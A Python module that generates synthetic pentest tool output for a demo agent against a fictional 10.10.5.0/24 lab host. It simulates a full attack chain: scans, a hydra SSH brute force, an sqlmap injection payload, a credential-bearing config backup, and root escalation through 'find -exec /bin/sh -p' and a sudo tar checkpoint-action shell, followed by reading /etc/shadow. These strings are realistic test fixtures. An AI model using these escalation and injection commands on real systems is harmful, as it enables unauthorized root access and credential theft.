"""Procedural tool output for the built-in demo agent: realistic shapes and sizes, generated from a seeded RNG.

Nothing here is copied from real scans; every host is in the 10.10.5.0/24 lab range. Sizes follow what real
tools print (a full nmap service scan: several KB; gobuster and nikto: a few KB; linpeas: 10+ KB), which is
what makes summarization and compaction kick in like they do on real pentest chains.
"""
from __future__ import annotations

import random
import string

__all__ = [
    "ping_sweep", "nmap_services", "gobuster", "nikto", "http_index", "config_backup", "hydra", "sqlmap",
    "ssh_session", "linpeas", "sudo_root", "random_hash",
]

DIR_WORDS = [
    "admin", "api", "assets", "backup", "backups", "cgi-bin", "config", "css", "dashboard", "data", "db", "debug",
    "dev", "docs", "download", "files", "fonts", "help", "images", "img", "includes", "install", "js", "lib",
    "login", "logs", "media", "old", "panel", "phpmyadmin", "private", "public", "scripts", "server-status",
    "static", "storage", "temp", "test", "tmp", "upload", "uploads", "user", "vendor", "wp-admin", "wp-content",
    ".git", ".env", "robots.txt", "sitemap.xml", "index.php", "info.php", "status", "metrics", "health",
]
NIKTO_FINDINGS = [
    "The anti-clickjacking X-Frame-Options header is not present.",
    "The X-Content-Type-Options header is not set.",
    "Apache/2.4.41 appears to be outdated (current is at least Apache/2.4.58).",
    "/server-status: Apache server-status interface found (protected by IP or credentials?).",
    "/backup/: Directory indexing found.",
    "/config.php.bak: PHP config file backup may contain credentials.",
    "/phpmyadmin/: phpMyAdmin directory found.",
    "OPTIONS: Allowed HTTP Methods: GET, POST, OPTIONS, HEAD, PUT, DELETE.",
    "/.git/HEAD: Git HEAD file found. Full repo details may be present.",
    "Cookie PHPSESSID created without the httponly flag.",
    "/info.php: Output from the phpinfo() function was found.",
    "/icons/README: Apache default file found.",
]
# Realistic linpeas check lines from a fixed vocabulary: real runs repeat the same few paths, and a random
# path per line would be hundreds of fake "identifiers" for the compaction audit to chase.
LINPEAS_LINES = [
    "Operative system: Linux version 5.4.0-150-generic (buildd@lcy02-amd64-047)",
    "Sudo version 1.8.31", "PATH: /usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "Date & uptime: Tue May 14 09:52:10 UTC 2024, up 41 days", "Any sd*/disk* disk in /dev? (limit 20): sda sda1 sda2",
    "Unmounted file-system? Check if you can mount unmounted devices", "Environment: HISTFILESIZE=0 HISTSIZE=0",
    "Searching Signature verification failed in dmesg: dmesg Not Found", "Protections: AppArmor enabled, ASLR enabled",
    "Cleaned processes: root /usr/sbin/apache2 -k start; mysql /usr/sbin/mysqld", "Cron jobs: /etc/crontab /etc/cron.d/backup",
    "Systemd PATH: /usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin", "Analyzing .service files: /etc/systemd/system/backup.service",
    "Hostname, hosts and DNS: acme-web01 127.0.1.1 nameserver 10.10.5.1", "Active Ports: 0.0.0.0:22 127.0.0.1:3306 0.0.0.0:80",
    "Can I sniff with tcpdump? No", "Users with console: root, backup, svc_web, jdoe", "Last logons: jdoe pts/0 10.10.5.1",
    "Useful software: /usr/bin/base64 /usr/bin/curl /usr/bin/nc /usr/bin/perl /usr/bin/python3 /usr/bin/wget",
    "Installed Compilers: gcc 4:9.3.0-1ubuntu2", "MySQL version: mysql Ver 14.14 Distrib 5.7.42",
    "Analyzing Apache-Nginx Files: /etc/apache2/sites-enabled/000-default.conf",
    "Searching passwords in config PHP files: /var/www/html/backup/config.php.bak",
    "Readable files belonging to root and readable by me but not world readable: none",
    "Interesting writable files owned by me or writable by everyone: /var/www/html/uploads",
    "Backup files: /var/backups/passwd.bak /var/backups/shadow.bak (not readable)",
    "SGID: /usr/bin/wall /usr/bin/ssh-agent /usr/bin/crontab /usr/bin/chage",
    "Files with capabilities: /usr/bin/ping = cap_net_raw+ep; /usr/bin/mtr-packet = cap_net_raw+ep",
    "Checking misconfigurations of ld.so: /etc/ld.so.conf include /etc/ld.so.conf.d/*.conf",
    "Searching ssl/ssh files: /etc/ssh/ssh_host_ed25519_key.pub", "Mails: /var/mail/jdoe",
]
USERS = ["jdoe", "backup", "svc_web", "mlopez", "deploy", "admin", "www-data"]


def random_hash(rng: random.Random, length: int = 32) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(length))


def _word(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))


def ping_sweep(rng: random.Random, net: str = "10.10.5") -> str:
    up = sorted(rng.sample(range(2, 60), 7))
    lines = ["Starting Nmap 7.94 ( https://nmap.org ) at 2024-05-14 09:12 UTC"]
    for host in up:
        lines.append(f"Nmap scan report for {net}.{host}")
        lines.append(f"Host is up (0.00{rng.randint(10, 99)}s latency).")
        lines.append(f"MAC Address: 52:54:00:{rng.randint(16, 255):02X}:{rng.randint(16, 255):02X}:{rng.randint(16, 255):02X} (QEMU virtual NIC)")
    lines.append(f"Nmap done: 256 IP addresses ({len(up)} hosts up) scanned in {rng.uniform(2, 4):.2f} seconds")
    return "\n".join(lines)


def nmap_services(rng: random.Random, host: str) -> str:
    """A full `nmap -sV -sC -p-` report: ports, versions and NSE script output (4-8 KB)."""
    lines = [f"Starting Nmap 7.94 ( https://nmap.org ) at 2024-05-14 09:{rng.randint(13, 40)} UTC",
             f"Nmap scan report for {host}", "Host is up (0.00031s latency).",
             f"Not shown: {65535 - 7} closed tcp ports (reset)", "PORT      STATE SERVICE     VERSION"]
    lines += [
        "22/tcp    open  ssh         OpenSSH 8.2p1 Ubuntu 4ubuntu0.5 (Ubuntu Linux; protocol 2.0)",
        "| ssh-hostkey: ",
        f"|   3072 {':'.join(random_hash(rng, 2) for _ in range(16))} (RSA)",
        f"|   256 {':'.join(random_hash(rng, 2) for _ in range(16))} (ECDSA)",
        f"|_  256 {':'.join(random_hash(rng, 2) for _ in range(16))} (ED25519)",
        "80/tcp    open  http        Apache httpd 2.4.41 ((Ubuntu))",
        "|_http-title: ACME Corp Intranet",
        "|_http-server-header: Apache/2.4.41 (Ubuntu)",
        "| http-robots.txt: 3 disallowed entries ",
        "|_/backup/ /admin/ /dev/",
        "139/tcp   open  netbios-ssn Samba smbd 4.6.2",
        "445/tcp   open  netbios-ssn Samba smbd 4.6.2",
        "3306/tcp  open  mysql       MySQL 5.7.42-0ubuntu0.18.04.1",
        "| mysql-info: ",
        "|   Protocol: 10",
        "|   Version: 5.7.42-0ubuntu0.18.04.1",
        f"|   Thread ID: {rng.randint(10, 90)}",
        "|   Capabilities flags: 65535",
        f"|_  Salt: {random_hash(rng, 20)}",
        "8080/tcp  open  http        Apache Tomcat 9.0.31",
        "|_http-title: Apache Tomcat/9.0.31",
        "|_http-favicon: Apache Tomcat",
        "Service Info: Host: ACME-WEB01; OS: Linux; CPE: cpe:/o:linux:linux_kernel", "",
        "Host script results:", "| smb2-security-mode: ", "|   3:1:1: ", "|_    Message signing enabled but not required",
        "|_nbstat: NetBIOS name: ACME-WEB01, NetBIOS user: <unknown>, NetBIOS MAC: <unknown> (unknown)",
        "| smb2-time: ", f"|   date: 2024-05-14T09:{rng.randint(10, 59)}:{rng.randint(10, 59)}", "|_  start_date: N/A",
    ]
    for port in sorted(rng.sample(range(1024, 65000), rng.randint(40, 90))):  # closed/filtered noise of -v runs
        lines.append(f"Discovered closed port {port}/tcp on {host} (reset) ttl 64 win 0 time {rng.uniform(0.1, 0.9):.4f}s")
    lines.append(f"Nmap done: 1 IP address (1 host up) scanned in {rng.uniform(60, 140):.2f} seconds")
    return "\n".join(lines)


def gobuster(rng: random.Random, url: str) -> str:
    lines = ["===============================================================",
             "Gobuster v3.6", "by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)",
             "===============================================================",
             f"[+] Url:                     {url}", "[+] Method:                  GET", "[+] Threads:                 40",
             "[+] Wordlist:                /usr/share/wordlists/dirb/common.txt",
             "[+] Negative Status codes:   404", "[+] Extensions:              php,txt,bak,zip",
             "===============================================================", "Starting gobuster in directory enumeration mode",
             "==============================================================="]
    for word in sorted(rng.sample(DIR_WORDS, 30) + ["backup", ".git", "robots.txt"]):
        status = rng.choice([200, 200, 301, 403, 403, 302])
        lines.append(f"/{word:<22} (Status: {status}) [Size: {rng.randint(180, 24000)}]")
        for ext in ("php", "bak", "txt"):
            if rng.random() < 0.2:
                lines.append(f"/{word}.{ext:<18} (Status: {rng.choice([200, 403])}) [Size: {rng.randint(100, 9000)}]")
    lines += [f"Progress: {rng.randint(18000, 23000)} / 23075 (99.9%)", "===============================================================",
              "Finished", "==============================================================="]
    return "\n".join(lines)


def nikto(rng: random.Random, host: str, port: int) -> str:
    lines = ["- Nikto v2.5.0", "---------------------------------------------------------------------------",
             f"+ Target IP:          {host}", f"+ Target Hostname:    {host}", f"+ Target Port:        {port}",
             "+ Start Time:         2024-05-14 09:31:02 (GMT0)",
             "---------------------------------------------------------------------------",
             "+ Server: Apache/2.4.41 (Ubuntu)"]
    for finding in NIKTO_FINDINGS:
        lines.append(f"+ {finding} See: https://cwe.mitre.org/data/definitions/{rng.choice((16, 200, 284, 530, 693))}.html")
    lines += [f"+ {rng.randint(7800, 8200)} requests: 0 error(s) and {len(NIKTO_FINDINGS)} item(s) reported on remote host",
              "+ End Time:           2024-05-14 09:33:47 (GMT0) (165 seconds)",
              "---------------------------------------------------------------------------", "+ 1 host(s) tested"]
    return "\n".join(lines)


def http_index(rng: random.Random, host: str) -> str:
    """The intranet's front page, HTML and inline script included (the page must show it as text)."""
    return "\n".join([
        "HTTP/1.1 200 OK", "Server: Apache/2.4.41 (Ubuntu)", "Content-Type: text/html; charset=UTF-8", "",
        "<!doctype html><html><head><title>ACME Corp Intranet</title>",
        "<script>window.APP_CONFIG = {api: '/api/v1', debug: true};</script>",
        "<script src=\"/js/app.js\"></script></head><body>",
        "<h1>Welcome to the ACME intranet</h1>", "<!-- TODO: remove /backup/config.php.bak before go-live -->",
        "<form action=\"/login.php\" method=\"post\"><input name=\"user\"><input type=\"password\" name=\"pass\"></form>",
        f"<img src=\"/images/logo.png\" onerror=\"this.style.display='none'\"><p>build {random_hash(rng, 12)}</p>",
        "</body></html>",
    ])


def config_backup(rng: random.Random, password: str) -> str:
    return "\n".join([
        "<?php", "// ACME intranet configuration -- generated 2021-03-02", "define('DB_HOST', '127.0.0.1');",
        "define('DB_NAME', 'intranet');", "define('DB_USER', 'svc_web');", f"define('DB_PASS', '{password}');",
        f"define('APP_SECRET', '{random_hash(rng, 40)}');", "define('SMTP_HOST', 'mail.acme.lab');",
        "$admins = ['jdoe@acme.lab', 'mlopez@acme.lab'];", "// legacy backup account, same password as DB",
        "$backup_user = 'backup';", "?>",
    ])


def hydra(rng: random.Random, host: str, user: str, password: str) -> str:
    lines = ["Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - for legal purposes only",
             "[DATA] max 4 tasks per 1 server, overall 4 tasks, 1000 login tries (l:1/p:1000), ~250 tries per task",
             f"[DATA] attacking ssh://{host}:22/"]
    for i in range(rng.randint(8, 14)):
        lines.append(f"[STATUS] {60 * (i + 1)}.00 tries/min, {60 * (i + 1)} tries in 00:{i + 1:02d}h, "
                     f"{1000 - 60 * (i + 1)} to do in 00:{rng.randint(1, 9):02d}h, 4 active")
    lines += [f"[22][ssh] host: {host}   login: {user}   password: {password}",
              "1 of 1 target successfully completed, 1 valid password found"]
    return "\n".join(lines)


def sqlmap(rng: random.Random, url: str) -> str:
    lines = ["        ___", "       __H__", " ___ ___[,]_____ ___ ___  {1.8.2#stable}",
             f"[*] starting @ 09:4{rng.randint(0, 9)}:12 /2024-05-14/",
             f"[09:41:12] [INFO] testing connection to the target URL {url}"]
    for technique in ("boolean-based blind", "error-based", "time-based blind", "UNION query"):
        for n in range(rng.randint(3, 6)):
            lines.append(f"[09:41:{rng.randint(10, 59)}] [INFO] testing '{technique} - WHERE or HAVING clause "
                         f"(variant {n + 1})'")
    lines += ["[09:42:03] [INFO] GET parameter 'id' is 'MySQL >= 5.0.12 AND time-based blind (query SLEEP)' injectable",
              "sqlmap identified the following injection point(s) with a total of 84 HTTP(s) requests:", "---",
              "Parameter: id (GET)", "    Type: time-based blind",
              "    Payload: id=1 AND (SELECT 4821 FROM (SELECT(SLEEP(5)))xYzA)", "---",
              "Database: intranet", "Table: users", "[5 entries]",
              "+----+----------+----------------------------------+-------+", "| id | username | password_hash                    | role  |",
              "+----+----------+----------------------------------+-------+"]
    for i, user in enumerate(USERS[:5], start=1):
        lines.append(f"| {i:<2} | {user:<8} | {random_hash(rng)} | {'admin' if i == 1 else 'user':<5} |")
    lines += ["+----+----------+----------------------------------+-------+", "[*] ending @ 09:44:51 /2024-05-14/"]
    return "\n".join(lines)


def ssh_session(rng: random.Random, host: str, user: str) -> str:
    return "\n".join([
        f"Warning: Permanently added '{host}' (ED25519) to the list of known hosts.",
        "Welcome to Ubuntu 20.04.6 LTS (GNU/Linux 5.4.0-150-generic x86_64)", "",
        f"{user}@acme-web01:~$ id", f"uid=1001({user}) gid=1001({user}) groups=1001({user}),27(sudo)",
        f"{user}@acme-web01:~$ uname -a",
        "Linux acme-web01 5.4.0-150-generic #167-Ubuntu SMP Mon May 15 17:35:08 UTC 2023 x86_64 GNU/Linux",
        f"{user}@acme-web01:~$ ls -la", "total 32", f"drwxr-xr-x 4 {user} {user} 4096 Mar  2  2021 .",
        f"-rw------- 1 {user} {user}  {rng.randint(200, 900)} May 14 09:50 .bash_history",
        f"-rw-r--r-- 1 {user} {user}   33 Mar  2  2021 user.txt", f"{user}@acme-web01:~$ cat user.txt", random_hash(rng),
    ])


def linpeas(rng: random.Random, user: str) -> str:
    """A linpeas run: banner, many sections of checks, a few highlighted findings (10-16 KB)."""
    sections = ["System Information", "Environment", "Processes, Crons, Timers, Services and Sockets",
                "Network Information", "Users Information", "Software Information", "Interesting Files",
                "Writable folders", "SUID - Check easy privesc, exploits and write perms", "Capabilities"]
    lines = ["                            ▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄", "    linpeas-ng by carlospolop",
             "LEGEND:", "  RED/YELLOW: 95% a PE vector", "  RED: You should take a look to it"]
    for section in sections:
        lines.append(f"════════════════════════════════════╣ {section} ╠════════════════════════════════════")
        for line in rng.sample(LINPEAS_LINES, rng.randint(12, 18)):
            lines.append(f"╔══════════╣ {line}")
            lines.append("╚ https://book.hacktricks.xyz/linux-hardening/privilege-escalation")
        if section.startswith("SUID"):
            lines.append("-rwsr-xr-x 1 root root 55K Feb  7  2022 /usr/bin/find  --->  GTFOBins: find . -exec /bin/sh -p \\;")
        if section == "Users Information":
            lines.append(f"User & Groups: uid=1001({user}) gid=1001({user}) groups=1001({user}),27(sudo)")
            lines.append(f"Matching Defaults entries for {user}: env_reset, mail_badpass")
            lines.append(f"User {user} may run: (root) NOPASSWD: /usr/bin/tar")
    return "\n".join(lines)


def sudo_root(rng: random.Random) -> str:
    return "\n".join([
        "$ sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "tar: Removing leading `/' from member names", "# id", "uid=0(root) gid=0(root) groups=0(root)",
        "# cat /root/root.txt", random_hash(rng), "# cat /etc/shadow | head -3",
        f"root:$6${_word(rng, 8)}${random_hash(rng, 43)}:19480:0:99999:7:::",
        "daemon:*:19046:0:99999:7:::", "bin:*:19046:0:99999:7:::",
    ])
